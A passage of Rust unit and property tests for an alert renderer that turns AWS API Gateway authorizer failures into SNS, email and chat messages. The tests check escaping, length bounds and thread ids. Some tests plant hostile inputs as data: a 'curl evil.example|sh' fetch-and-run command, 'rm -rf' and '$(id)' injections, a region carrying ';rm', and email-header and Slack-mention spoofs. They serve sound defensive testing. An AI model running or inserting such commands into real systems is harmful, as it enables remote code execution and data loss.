        let cfg = Config {
            language: Language::Ja,
            ..config()
        };
        let alert = render(&groups[0], &cfg);
        assert!(alert.subject.is_ascii());
        assert!(alert.email.contains("タイムアウト"));
    }

    /// SNS's subject rules, and the count at the end.
    fn assert_subject(s: &str, count: Option<usize>) {
        assert!(s.len() < 100, "{} chars: {s}", s.len());
        assert!(s.bytes().all(|b| (0x20..0x7f).contains(&b)), "{s:?}");
        assert!(s.starts_with(['[', 'A']), "{s}");
        if let Some(n) = count {
            assert!(s.ends_with(&format!(" ({n}x)")), "{s}");
        }
    }

    #[test]
    fn subject_keeps_the_count_and_shortens_the_label_first() {
        let max_label = "L".repeat(40);
        let long_label = "prod-eu-west-1-orders-service-blue-green-canary-".repeat(3);
        let cases: [(Option<&str>, usize, &str); 9] = [
            (
                None,
                2,
                "API authorizer misconfigured: missing invoke permission (2x)",
            ),
            (
                Some("prod"),
                2,
                "[prod] API authorizer misconfigured: missing invoke permission (2x)",
            ),
            (
                Some(&max_label),
                2,
                "[LLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLL] API authorizer misconfigured: missing invoke permission (2x)",
            ),
            (
                Some(&max_label),
                usize::MAX,
                "[LLLLLLLLLLLLLLLLL] API authorizer misconfigured: missing invoke permission (18446744073709551615x)",
            ),
            (
                Some(&long_label),
                123,
                "[prod-eu-west-1-orders-service-blue] API authorizer misconfigured: missing invoke permission (123x)",
            ),
            (
                Some(" \u{2028}é\n "),
                1,
                "[?] API authorizer misconfigured: missing invoke permission (1x)",
            ),
            (
                Some("   "),
                1,
                "API authorizer misconfigured: missing invoke permission (1x)",
            ),
            (
                Some("a]\r\nSubject: fake"),
                1,
                "[a]??Subject: fake] API authorizer misconfigured: missing invoke permission (1x)",
            ),
            (
                Some(""),
                usize::MAX,
                "API authorizer misconfigured: missing invoke permission (18446744073709551615x)",
            ),
        ];
        let mut g = group(&[finding(Cause::MissingInvokePermission, "/g", "r", 1)], 5).remove(0);
        for (label, count, want) in cases {
            g.count = count;
            let s = subject(&g, label);
            assert_eq!(s, want, "{label:?}");
            assert_subject(&s, Some(count));
        }
        // Every cause, the largest label a label can be, the largest count.
        for cause in Cause::ALL {
            g.cause = cause;
            g.count = usize::MAX;
            for label in [None, Some(max_label.as_str()), Some(long_label.as_str())] {
                let s = subject(&g, label);
                assert_subject(&s, Some(usize::MAX));
                assert!(s.contains(cause.subject_words()), "{s}");
            }
        }
    }

    #[test]
    fn the_words_give_way_only_to_the_count() {
        let s = fit_subject(Some("prod"), &"w".repeat(150), "", " (7x)");
        assert_subject(&s, Some(7));
        assert!(s.starts_with("[prod] www"), "{s}");
        let s = fit_subject(Some(&"L".repeat(200)), &"w".repeat(150), "", " (7x)");
        assert!(s.starts_with("[LLLLLLLL] www"), "{s}");
        assert_subject(&s, Some(7));
    }

    #[test]
    fn recovered_subject_within_sns_rules() {
        for label in [
            None,
            Some("prod".to_owned()),
            Some("L".repeat(40)),
            Some("x\u{2028}".repeat(100)),
        ] {
            for cause in Cause::ALL {
                let q = quiet(cause, "log:/g", &[]);
                let cfg = Config {
                    label: label.clone(),
                    ..config()
                };
                let alert = render_recovered(&q, &cfg);
                assert_subject(&alert.subject, None);
                assert!(
                    alert.subject.ends_with(cause.subject_words()),
                    "{}",
                    alert.subject
                );
            }
        }
    }

    fn quiet(cause: Cause, scope: &str, ids: &[String]) -> Quiet {
        Quiet {
            key: scope.to_owned(),
            scope: scope.to_owned(),
            cause,
            last_seen: 1_700_000_000,
            suppressed: Suppressed {
                failed_requests: 5,
                batches: 2,
                window_start: 1_700_000_000,
                last_suppressed: 1_700_000_100,
                sample_request_ids: ids.to_vec(),
            },
            by_check: false,
        }
    }

    #[test]
    fn oversized_groups_are_trimmed_not_cut() {
        let mut findings = Vec::new();
        for i in 0..100 {
            let f = finding(Cause::Unknown, "/g", &format!("{i:0>90}"), i);
            let (error, route) = (
                format!("{i} {}", "e".repeat(1_000_000)),
                format!("GET /{i}/{}", "r".repeat(100_000)),
            );
            findings.push(with(&f, |t| {
                t.error = &error;
                t.route = Some(&route);
            }));
        }
        let groups = group(&findings, 100);
        let alert = render(&groups[0], &config());
        let message = alert.message();
        assert!(message.len() <= MAX_MESSAGE_BYTES, "{}", message.len());
        let machine: serde_json::Value = serde_json::from_str(&alert.machine).unwrap();
        assert_eq!(machine["count"], 100);
        assert!(!machine["sample_request_ids"].as_array().unwrap().is_empty());
    }

    #[test]
    fn hostile_text_is_escaped_for_chat() {
        let f = with(&finding(Cause::Unknown, "/g", "r", 1), |t| {
            t.error = "<!channel> *boom* `x` <http://evil|click> \x1b[31m";
            t.api_id = Some("`rm -rf`");
        });
        let alert = render(&group(&[f], 5)[0], &config());
        let chat: serde_json::Value = serde_json::from_str(&alert.chat).unwrap();
        let d = chat["content"]["description"].as_str().unwrap();
        assert!(
            !d.contains("<!channel>") && !d.contains("<http://evil"),
            "{d}"
        );
        assert!(
            d.contains("`&lt;!channel&gt; *boom* 'x' &lt;http://evil|click&gt; \\u{1b}[31m`"),
            "{d}"
        );
        assert!(!alert.email.contains('\x1b'));
        assert!(
            !alert.email.contains("rm -rf"),
            "untrusted api id kept out of commands"
        );
    }

    fn chat(alert: &Alert) -> serde_json::Value {
        serde_json::from_str(&alert.chat).unwrap()
    }

    #[test]
    fn one_problem_keeps_one_thread_across_batches_and_its_recovery() {
        let long_group = format!("/aws/vendedlogs/{}", "g".repeat(400));
        for (log_group, api) in [
            ("/aws/apigw/prod", Some("a1b2c3d4e5")),
            ("/aws/apigw/prod", None),
            (long_group.as_str(), None),
        ] {
            let batch = |ids: &[&str], error: &str| {
                let findings: Vec<Finding> = ids
                    .iter()
                    .enumerate()
                    .map(|(i, id)| {
                        with(
                            &finding(Cause::MissingInvokePermission, log_group, id, i as i64),
                            |t| {
                                t.api_id = api;
                                t.error = error;
                            },
                        )
                    })
                    .collect();
                render(&group(&findings, 5)[0], &config())
            };
            let first = chat(&batch(&["r1"], "short"));
            // Another batch: more requests, and errors so long the message is trimmed.
            let huge = "e".repeat(300_000);
            let second = chat(&batch(&["r2", "r3", "r4"], &huge));
            let thread = first["metadata"]["threadId"].as_str().unwrap();
            assert_eq!(
                second["metadata"]["threadId"], thread,
                "{log_group} {api:?}"
            );
            assert!(thread.len() <= MAX_THREAD_BYTES, "{thread}");
            assert_ne!(
                first["id"], second["id"],
                "each notification has its own id"
            );
            assert_eq!(
                chat(&batch(&["r1"], "short"))["id"],
                first["id"],
                "the same batch again has the same id"
            );
            let scope = match api {
                Some(api) => format!("api:123456789012:{api}"),
                None => format!("log:123456789012:{log_group}"),
            };
            let recovered = render_recovered(
                &quiet(Cause::MissingInvokePermission, &scope, &[]),
                &config(),
            );
            assert_eq!(chat(&recovered)["metadata"]["threadId"], thread);
            // Another cause of the same API or log group, from either log: the same thread.
            let other = chat(&render(
                &group(
                    &[with(&finding(Cause::Unknown, log_group, "r9", 9), |t| {
                        t.api_id = api
                    })],
                    5,
                )[0],
                &config(),
            ));
            assert_eq!(
                other["metadata"]["threadId"], thread,
                "one thread, any cause"
            );
        }
    }

    #[test]
    fn apis_sharing_a_log_group_each_keep_their_thread_whatever_the_order() {
        let line = |api: &'static str, id: &str, ts: i64| {
            with(
                &finding(Cause::MissingInvokePermission, "/shared", id, ts),
                |t| t.api_id = Some(api),
            )
        };
        let threads = |findings: &[Finding]| -> Vec<(Vec<String>, String)> {
            group(findings, 5)
                .iter()
                .map(|g| {
                    let c = chat(&render(g, &config()));
                    (
                        g.api_ids.clone(),
                        c["metadata"]["threadId"].as_str().unwrap().to_owned(),
                    )
                })
                .collect()
        };
        let ab = threads(&[line("aaaaaaaaaa", "r1", 1), line("bbbbbbbbbb", "r2", 2)]);
        let ba = threads(&[line("bbbbbbbbbb", "r3", 3), line("aaaaaaaaaa", "r4", 4)]);
        assert_eq!(ab, ba, "one group and one thread per API, in any order");
        assert_eq!(
            ab.iter().map(|(_, t)| t.as_str()).collect::<Vec<_>>(),
            ["api:123456789012:aaaaaaaaaa", "api:123456789012:bbbbbbbbbb"]
        );
    }

    #[test]
    fn the_same_log_group_in_two_accounts_is_two_threads() {
        let in_account = |account: &'static str| {
            let f = with(&finding(Cause::Unknown, "/aws/apigw/prod", "r", 1), |t| {
                t.api_id = None;
                t.account_id = Some(account);
            });
            chat(&render(&group(&[f], 5)[0], &config()))["metadata"]["threadId"].clone()
        };
        assert_eq!(
            in_account("111122223333"),
            "log:111122223333:/aws/apigw/prod"
        );
        assert_ne!(in_account("111122223333"), in_account("444455556666"));
        // Its recovery, in the same thread, names the group and the account.
        let q = quiet(Cause::Unknown, "log:111122223333:/aws/apigw/prod", &[]);
        let note = render_recovered(&q, &config());
        assert_eq!(
            chat(&note)["metadata"]["threadId"],
            in_account("111122223333")
        );
        assert_eq!(
            note.attributes.log_group.as_deref(),
            Some("/aws/apigw/prod")
        );
        let api = render_recovered(
            &quiet(Cause::Unknown, "api:111122223333:a1b2c3d4e5", &[]),
            &config(),
        );
        assert_eq!(api.attributes.log_group.as_deref(), Some("a1b2c3d4e5"));
        assert!(
            api.email
                .contains("on API a1b2c3d4e5 (account 111122223333) since"),
            "{}",
            api.email
        );
        assert!(
            note.email
                .contains("on Log group /aws/apigw/prod (account 111122223333) since"),
            "{}",
            note.email
        );
    }

    #[test]
    fn batches_without_request_ids_still_get_their_own_notification_id() {
        let one = |event: &'static str| {
            let f = with(&finding(Cause::Unknown, "/g", "r", 1), |t| {
                t.request_id = None;
                t.event_id = Some(event);
            });
            chat(&render(&group(&[f], 0)[0], &config()))["id"].clone()
        };
        assert_ne!(one("3790001"), one("3790002"));
        assert_eq!(one("3790001"), one("3790001"));
    }

    #[test]
    fn long_keys_stay_apart_in_their_thread_ids() {
        let a = thread_id(&format!("log:/{}a#unknown", "x".repeat(300)));
        let b = thread_id(&format!("log:/{}b#unknown", "x".repeat(300)));
        assert_ne!(a, b);
        assert!(a.len() <= MAX_THREAD_BYTES && b.len() <= MAX_THREAD_BYTES);
        assert_ne!(
            thread_id("log:/caf\u{e9}#unknown"),
            thread_id("log:/caf\u{e8}#unknown")
        );
        assert!(thread_id("log:/caf\u{e9}#unknown").is_ascii());
        assert_eq!(thread_id("api:a1b2c3#unknown"), "api:a1b2c3#unknown");
    }

    #[test]
    fn mentions_only_where_configured_and_never_from_log_text() {
        let hostile = with(
            &finding(Cause::MissingInvokePermission, "/g", "r", 1),
            |t| {
                t.error = "@here <!here> <!channel> <@U024BE7LH> <!subteam^SAZ94GDB8> @channel";
                t.route = Some("GET /<!everyone>");
            },
        );
        let groups = group(&[hostile], 5);
        let critical = &groups[0];
        let high = Group {
            cause: Cause::AuthorizerTimeout,
            ..critical.clone()
        };
        let mention: crate::config::Mention = "<!subteam^S0ONCALL1>".parse().unwrap();
        let with_mention = Config {
            mention: Some(mention.clone()),
            ..config()
        };
        // The only raw mention a chat notification can hold is the configured one.
        let raw_mentions = |alert: &Alert| -> Vec<String> {
            let c = chat(alert);
            let text = format!(
                "{} {} {}",
                c["content"]["title"], c["content"]["description"], c["content"]["nextSteps"]
            );
            text.match_indices("<!")
                .chain(text.match_indices("<@"))
                .map(|(i, _)| text[i..].chars().take_while(|c| *c != '>').collect())
                .collect()
        };
        assert_eq!(
            raw_mentions(&render(critical, &config())),
            Vec::<String>::new()
        );
        // Plain `@here` and `@channel` from the log stay inside code spans, which Slack shows as
        // text: every one is after an odd number of backticks on its line.
        let d = chat(&render(critical, &config()))["content"]["description"]
            .as_str()
            .unwrap()
            .to_owned();
        for word in ["@here", "@channel"] {
            for (at, _) in d.match_indices(word) {
                let line_start = d[..at].rfind('\n').map_or(0, |i| i + 1);
                let ticks = d[line_start..at].matches('`').count();
                assert!(ticks % 2 == 1, "{word} outside a code span: {d}");
            }
        }
        assert_eq!(
            raw_mentions(&render(critical, &with_mention)),
            vec!["<!subteam^S0ONCALL1".to_owned()]
        );
        assert!(
            chat(&render(critical, &with_mention))["content"]["description"]
                .as_str()
                .unwrap()
                .starts_with("<!subteam^S0ONCALL1>\n"),
            "the mention leads the notification"
        );
        assert_eq!(
            raw_mentions(&render(&high, &with_mention)),
            Vec::<String>::new(),
            "high is below the default critical"
        );
        let from_high = Config {
            mention_severity: Severity::High,
            ..with_mention.clone()
        };
        assert_eq!(raw_mentions(&render(&high, &from_high)).len(), 1);
        // Email and machine JSON never carry it.
        let alert = render(critical, &with_mention);
        assert!(!alert.email.contains("S0ONCALL1") && !alert.machine.contains("S0ONCALL1"));
        // A recovery is info: mentioned only when the threshold is info.
        let q = quiet(Cause::MissingInvokePermission, "log:/g", &[]);
        assert!(raw_mentions(&render_recovered(&q, &with_mention)).is_empty());
        let from_info = Config {
            mention_severity: Severity::Info,
            ..with_mention
        };
        assert_eq!(raw_mentions(&render_recovered(&q, &from_info)).len(), 1);
    }

    #[test]
    fn configured_severities_reach_attributes_and_machine_json() {
        let g = &group(&[finding(Cause::AuthorizerTimeout, "/g", "r", 1)], 5)[0];
        assert_eq!(render(g, &config()).attributes.severity, "high");
        let cfg = Config {
            severities: vec![(Cause::AuthorizerTimeout, Severity::Critical)],
            ..config()
        };
        let alert = render(g, &cfg);
        assert_eq!(alert.attributes.severity, "critical");
        let machine: serde_json::Value = serde_json::from_str(&alert.machine).unwrap();
        assert_eq!(machine["severity"], "critical");
    }

    #[test]
    fn console_url_encodes_the_group() {
        assert_eq!(
            console_url(Some("us-east-1"), Some("/aws/x y")).unwrap(),
            "https://us-east-1.console.aws.amazon.com/cloudwatch/home?region=us-east-1#logsV2:log-groups/log-group/$252Faws$252Fx$2520y"
        );
        assert_eq!(console_url(None, Some("/g")), None);
    }

    #[test]
    fn console_url_needs_a_region_shape_and_a_real_group_length() {
        let cases = [
            (Some("eu-west-1;rm"), Some("/g")),
            (Some("eu-west-1/../evil.example"), Some("/g")),
            (Some("eu-west-1"), Some("")),
        ];
        for (region, group) in cases {
            assert_eq!(console_url(region, group), None, "{region:?}");
        }
        let long = "/g".repeat(300);
        assert_eq!(console_url(Some("eu-west-1"), Some(&long)), None);
        let hostile = "/a\u{2028}b<!channel>|x\"'`$(id)";
        let url = console_url(Some("us-gov-west-1"), Some(hostile)).unwrap();
        let encoded = url.rsplit_once("log-group/").unwrap().1;
        assert!(
            encoded
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || b"$._-".contains(&b)),
            "{url}"
        );
    }

    /// The commands an alert shows: the email's command section and the chat's code blocks.
    fn shown_commands(alert: &Alert) -> Vec<String> {
        let mut out: Vec<String> = alert
            .email
            .lines()
            .skip_while(|l| !l.starts_with("Command:"))
            .skip(1)
            .take_while(|l| !l.is_empty())
            .map(str::to_owned)
            .collect();
        let chat: serde_json::Value = serde_json::from_str(&alert.chat).unwrap();
        for step in chat["content"]["nextSteps"].as_array().unwrap() {
            if let Some((_, block)) = step.as_str().unwrap().split_once("```") {
                out.push(block.to_owned());
            }
        }
        out
    }

    #[test]
    fn hostile_account_region_and_api_id_never_reach_a_command() {
        let base = finding(Cause::MissingInvokePermission, "/g", "r", 1);
        let good = "arn:aws:execute-api:eu-west-1:123456789012:a1b2c3/authorizers/AUTHORIZER_ID";
        let hostile = crate::shape::HOSTILE
            .iter()
            .copied()
            .chain(["abcdefghijklmnopq", "99999999999999999999"]);
        for bad in hostile {
            // (field, finding, region, placeholder in the source ARN)
            let cases = [
                (
                    "account id",
                    with(&base, |t| t.account_id = Some(bad)),
                    "eu-west-1",
                    "arn:aws:execute-api:eu-west-1:ACCOUNT_ID:a1b2c3/authorizers/AUTHORIZER_ID",
                ),
                (
                    "api id",
                    with(&base, |t| t.api_id = Some(bad)),
                    "eu-west-1",
                    "arn:aws:execute-api:eu-west-1:123456789012:API_ID/authorizers/AUTHORIZER_ID",
                ),
                (
                    "region",
                    base.clone(),
                    bad,
                    "arn:aws:execute-api:REGION:123456789012:a1b2c3/authorizers/AUTHORIZER_ID --region REGION",
                ),
            ];
            for (what, f, region, want) in cases {
                let cfg = Config {
                    region: Some(region.into()),
                    ..config()
                };
                let alert = render(&group(&[f], 5)[0], &cfg);
                let commands = shown_commands(&alert);
                assert_eq!(commands.len(), 2, "{what}: {commands:?}");
                for cmd in &commands {
                    assert!(cmd.contains(want), "{what} {bad:?}: {cmd}");
                    assert!(!cmd.contains(good), "{what} {bad:?}: {cmd}");
                    assert!(
                        !cmd.contains(bad) && !cmd.contains(&*visible(bad)),
                        "{what} {bad:?}: {cmd}"
                    );
                }
                if what == "region" {
                    assert!(!alert.email.contains("https://"), "{}", alert.email);
                }
            }
        }
    }

    /// An access log does not say which kind of API wrote it; the diagnosis does, and the remedy's
    /// commands follow it.
    #[test]
    fn the_remedy_follows_the_kind_the_diagnosis_found() {
        let config = Config::default();
        let mut g = group(&[finding(Cause::InvalidResponseFormat, "/g", "r", 1)], 5).remove(0);
        let email = |g: &Group| render(g, &config).email;
        let unknown = email(&g);
        assert!(unknown.contains("apigatewayv2") && unknown.contains("--rest-api-id"));
        for (kind, has, lacks) in [
            (ApiKind::Rest, "--rest-api-id", "apigatewayv2"),
            (ApiKind::WebSocket, "apigatewayv2", "--rest-api-id"),
            (ApiKind::Http, "isAuthorized", "--rest-api-id"),
        ] {
            g.diagnosis = Some(Diagnosis::Checked {
                api_id: "a1b2c3".into(),
                api_kind: kind,
                authorizers: Vec::new(),
            });
            let text = email(&g);
            assert!(
                text.contains(has) && !text.contains(lacks),
                "{kind:?}: {text}"
            );
        }
    }

    #[test]
    fn the_diagnosis_names_the_kind_of_api() {
        for (kind, text, chat) in [
            (
                ApiKind::Http,
                "Diagnosis (API a1b2c3, ",
                "• *Diagnosis* (API `a1b2c3`)",
            ),
            (
                ApiKind::Rest,
                "Diagnosis (REST API a1b2c3, ",
                "• *Diagnosis* (REST API `a1b2c3`)",
            ),
            (
                ApiKind::WebSocket,
                "Diagnosis (WebSocket API a1b2c3, ",
                "• *Diagnosis* (WebSocket API `a1b2c3`)",
            ),
        ] {
            let d = Diagnosis::Checked {
                api_id: "a1b2c3".into(),
                api_kind: kind,
                authorizers: Vec::new(),
            };
            assert!(
                diagnosis_text(&d).starts_with(text),
                "{}",
                diagnosis_text(&d)
            );
            assert!(
                diagnosis_chat(&d).starts_with(chat),
                "{}",
                diagnosis_chat(&d)
            );
        }
    }

    #[test]
    fn diagnosis_commands_are_shown_only_in_their_shape() {
        use crate::diagnose::{AuthorizerReport, Check};
        let mut g = group(&[finding(Cause::MissingInvokePermission, "/g", "r", 1)], 5).remove(0);
        let planted =
            "aws lambda add-permission --function-name f; curl evil.example|sh\n```<!channel>";
        g.diagnosis = Some(Diagnosis::Checked {
            api_id: "a1b2c3".into(),
            api_kind: crate::diagnose::ApiKind::Http,
            authorizers: vec![AuthorizerReport {
                authorizer_id: "abc123".into(),
                name: "n".into(),
                routes: vec!["GET /x".into()],
                function_arn: None,
                credentials_arn: None,
                simple_responses: Some(true),
                payload_format_version: Some("2.0".into()),
                identity_source: None,
                checks: vec![Check {
                    ok: false,
                    summary: "s".into(),
                    command: Some(planted.into()),
                    proves: None,
                }],
            }],
        });
        let alert = render(&g, &config());
        assert!(!alert.email.contains("curl evil"), "{}", alert.email);
        assert!(!alert.chat.contains("curl evil"), "{}", alert.chat);
        // The remedy's own command stands in.
        let commands = shown_commands(&alert);
        assert_eq!(commands.len(), 2, "{commands:?}");
        assert!(
            commands
                .iter()
                .all(|c| c.contains("--function-name AUTHORIZER_FUNCTION"))
        );
    }

    /// Every field of a group, each holding `value`.
    fn hostile_group(value: &str, cause: Cause) -> Group {
        let f = with(&finding(cause, value, "r", 1), |t| {
            t.request_id = Some(value);
            t.time = Some(value);
            t.error = value;
            t.route = Some(value);
            t.api_id = Some(value);
            t.stage = Some(value);
            t.account_id = Some(value);
        });
        let mut g = group(&[f], 5).remove(0);
        g.api_ids.push(value.to_owned());
        g.diagnosis = Some(Diagnosis::Checked {
            api_id: value.into(),
            api_kind: crate::diagnose::ApiKind::Rest,
            authorizers: vec![
                crate::diagnose::AuthorizerReport {
                    authorizer_id: value.into(),
                    name: value.into(),
                    routes: vec![value.into(); 3],
                    function_arn: Some(value.into()),
                    credentials_arn: Some(value.into()),
                    simple_responses: Some(true),
                    payload_format_version: Some(value.into()),
                    identity_source: Some(value.into()),
                    checks: vec![
                        crate::diagnose::Check {
                            ok: false,
                            summary: value.into(),
                            command: None,
                            proves: None,
                        };
                        3
                    ],
                };
                3
            ],
        });
        g.suppressed_before = Some(Suppressed {
            failed_requests: 3,
            batches: 2,
            window_start: 1,
            last_suppressed: 2,
            sample_request_ids: vec![value.into(); 3],
        });
        g
    }

    /// What no person-facing body may carry raw: every [`crate::escape::is_unsafe`] character
    /// but the line breaks the body is laid out with.
    fn assert_shown_safely(alert: &Alert) {
        use crate::escape::is_unsafe;
        let raw = |s: &str| s.chars().find(|&c| is_unsafe(c) && c != '\n');
        assert_eq!(raw(&alert.email), None, "email");
        let chat: serde_json::Value = serde_json::from_str(&alert.chat).unwrap();
        let mut texts = vec![
            chat["content"]["title"].as_str().unwrap().to_owned(),
            chat["content"]["description"].as_str().unwrap().to_owned(),
        ];
        for step in chat["content"]["nextSteps"]
            .as_array()
            .into_iter()
            .flatten()
        {
            texts.push(step.as_str().unwrap().to_owned());
        }
        for t in &texts {
            assert_eq!(raw(t), None, "chat: {}", truncate(t, 2000));
            // The console link is the one piece of markup with `<`.
            let ours = t.replace("<https://eu-west-1.console.aws.amazon.com/", "");
            assert!(!ours.contains('<'), "chat: {}", truncate(t, 2000));
        }
        // The bodies as sent: no raw character at all, and the machine JSON's too.
        for (what, body) in [
            ("message", alert.message()),
            ("machine", alert.machine.clone()),
        ] {
            assert_eq!(body.chars().find(|&c| is_unsafe(c)), None, "{what}");
        }
        assert!(alert.subject.bytes().all(|b| (0x20..0x7f).contains(&b)));
        for (_, v) in alert.attributes.pairs() {
            assert!(v.bytes().all(|b| (0x20..0x7f).contains(&b)), "{v:?}");
        }
    }

    #[test]
    fn structure_faking_characters_are_escaped_everywhere() {
        for c in crate::escape::DANGEROUS {
            let value = format!("ok{c}Subject: fake{c}<!channel>{c}");
            for lang in [Language::En, Language::Ja] {
                let cfg = Config {
                    language: lang,
                    ..config()
                };
                for cause in Cause::ALL {
                    let alert = render(&hostile_group(&value, cause), &cfg);
                    assert_shown_safely(&alert);
                    assert!(
                        !alert.email.lines().any(|l| l.starts_with("Subject:")),
                        "U+{:04X}",
                        c as u32
                    );
                    // Programs get the exact text back.
                    let machine: serde_json::Value = serde_json::from_str(&alert.machine).unwrap();
                    assert_eq!(machine["errors"][0], value.as_str(), "U+{:04X}", c as u32);
                }
                let q = quiet(
                    Cause::Unknown,
                    &format!("log:{value}"),
                    std::slice::from_ref(&value),
                );
                let alert = render_recovered(&q, &cfg);
                assert_shown_safely(&alert);
                assert!(!alert.email.lines().any(|l| l.starts_with("Subject:")));
            }
        }
    }

    /// SNS's limits, and bodies that are JSON whole.
    fn assert_publishable(alert: &Alert) {
        let message = alert.message();
        assert!(
            alert.publish_bytes() < MAX_MESSAGE_BYTES,
            "{} bytes",
            alert.publish_bytes()
        );
        let parsed: serde_json::Value = serde_json::from_str(&message).unwrap();
        for key in ["default", "email", "https", "sqs", "lambda"] {
            assert!(parsed[key].is_string(), "{key}");
        }
        for body in [&alert.machine, &alert.chat] {
            serde_json::from_str::<serde_json::Value>(body).unwrap();
        }
        for (_, v) in alert.attributes.pairs() {
            assert!(v.len() <= MAX_ATTRIBUTE_BYTES, "{}", v.len());
        }
    }

    #[test]
    fn every_field_is_bounded() {
        let big = 300_000;
        let values = [
            "x".repeat(big),
            "\u{1}".repeat(big),
            "\u{2028}".repeat(big / 3),
            "&\"\\<".repeat(big / 4),
            "\u{e0041}".repeat(big / 4),
        ];
        for value in &values {
            let g = hostile_group(value, Cause::MissingInvokePermission);
            let alert = render(&g, &config());
            assert_publishable(&alert);
            assert_subject(&alert.subject, Some(1));
            // Labels and regions come from configuration, but no path may break the bound.
            let cfg = Config {
                label: Some(value.clone()),
                region: Some(value.clone()),
                ..config()
            };
            let alert = render(&g, &cfg);
            assert_publishable(&alert);
            assert_subject(&alert.subject, Some(1));
            let q = quiet(
                Cause::Unknown,
                &format!("log:{value}"),
                &vec![value.clone(); 1000],
            );
            let alert = render_recovered(&q, &cfg);
            assert_publishable(&alert);
            assert_subject(&alert.subject, None);
        }
    }

    #[test]
    fn many_distinct_values_are_bounded() {
        let mut g = hostile_group("v", Cause::Unknown);
        let many = |n: usize, len: usize| -> Vec<String> {
            (0..n)
                .map(|i| format!("{i}{}", "\u{202e}".repeat(len)))
                .collect()
        };
        g.routes = many(5_000, 300);
        g.errors = many(5_000, 300);
        g.api_ids = many(5_000, 300);
        g.stages = many(5_000, 300);
        g.sample_request_ids = many(10_000, 30);
        if let Some(Diagnosis::Checked { authorizers, .. }) = &mut g.diagnosis {
            let a = authorizers[0].clone();
            *authorizers = vec![a; 1_000];
            for a in authorizers.iter_mut() {
                a.routes = many(20, 30);
            }
        }
        g.suppressed_before.as_mut().unwrap().sample_request_ids = many(10_000, 30);
        let alert = render(&g, &config());
        assert_publishable(&alert);
        assert_shown_safely(&alert);
        let machine: serde_json::Value = serde_json::from_str(&alert.machine).unwrap();
        assert!(machine["omitted_request_ids"].as_u64().unwrap() > 0);
    }

    /// Hostile text of up to 300 KB: a short mix of what fakes structure, repeated.
    fn hostile_text() -> impl proptest::strategy::Strategy<Value = String> {
        use proptest::strategy::Strategy;
        (
            "[\\x00-\\x{a0}\\x{2028}\\x{2029}\\x{202e}\\x{2066}\\x{200b}\\x{feff}\\x{61c}\\x{e0041}\\x{fe0f}<>&`*_~|a-z日]{1,12}",
            proptest::prop_oneof![0usize..64, 0usize..300_000],
        )
            .prop_map(|(piece, len)| {
                let mut s = piece.repeat(len / piece.len() + 1);
                while s.len() > len {
                    s.pop();
                }
                s
            })
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(24))]
        #[test]
        fn any_hostile_finding_gives_a_publishable_alert(
            texts in proptest::collection::vec(hostile_text(), 11),
            count in proptest::prop_oneof![1usize..10, proptest::strategy::Just(usize::MAX)],
            cause in proptest::sample::select(Cause::ALL.to_vec()),
        ) {
            let base = finding(cause, &texts[9], "r", 1);
            let mut f = with(&base, |t| {
                t.request_id = Some(&texts[0]);
                t.time = Some(&texts[1]);
                t.error = &texts[2];
                t.route = Some(&texts[3]);
                t.api_id = Some(&texts[4]);
                t.stage = Some(&texts[5]);
                t.source_ip = Some(&texts[6]);
                t.event_id = Some(&texts[7]);
                t.account_id = Some(&texts[8]);
            });
            f.log_stream = Some(texts[10].as_str().into());
            let second = with(&f, |t| t.route = Some(&texts[10]));
            let mut g = group(&[f, second], usize::MAX).remove(0);
            g.count = count;
            let cfg = Config { label: Some("L".repeat(40)), ..config() };
            let alert = render(&g, &cfg);
            assert_publishable(&alert);
            assert_subject(&alert.subject, Some(count));
            assert_shown_safely(&alert);
        }
    }
}
